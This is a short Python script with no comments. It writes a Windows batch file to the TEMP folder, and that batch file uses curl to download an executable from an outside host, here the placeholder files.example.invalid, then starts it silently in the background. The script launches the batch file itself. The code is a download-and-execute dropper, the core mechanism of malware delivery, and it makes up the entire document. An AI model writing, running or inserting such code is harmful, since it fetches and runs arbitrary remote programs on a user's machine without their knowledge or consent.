import os

place = os.path.join(os.getenv("TEMP"), "sample.bat")
with open(place, "w") as stream:
    stream.write("@echo off\r\ncurl -o %TEMP%\\sample.exe https://files.example.invalid/a\r\nstart /b %TEMP%\\sample.exe\r\n")
os.system(f'start "" "{place}"')
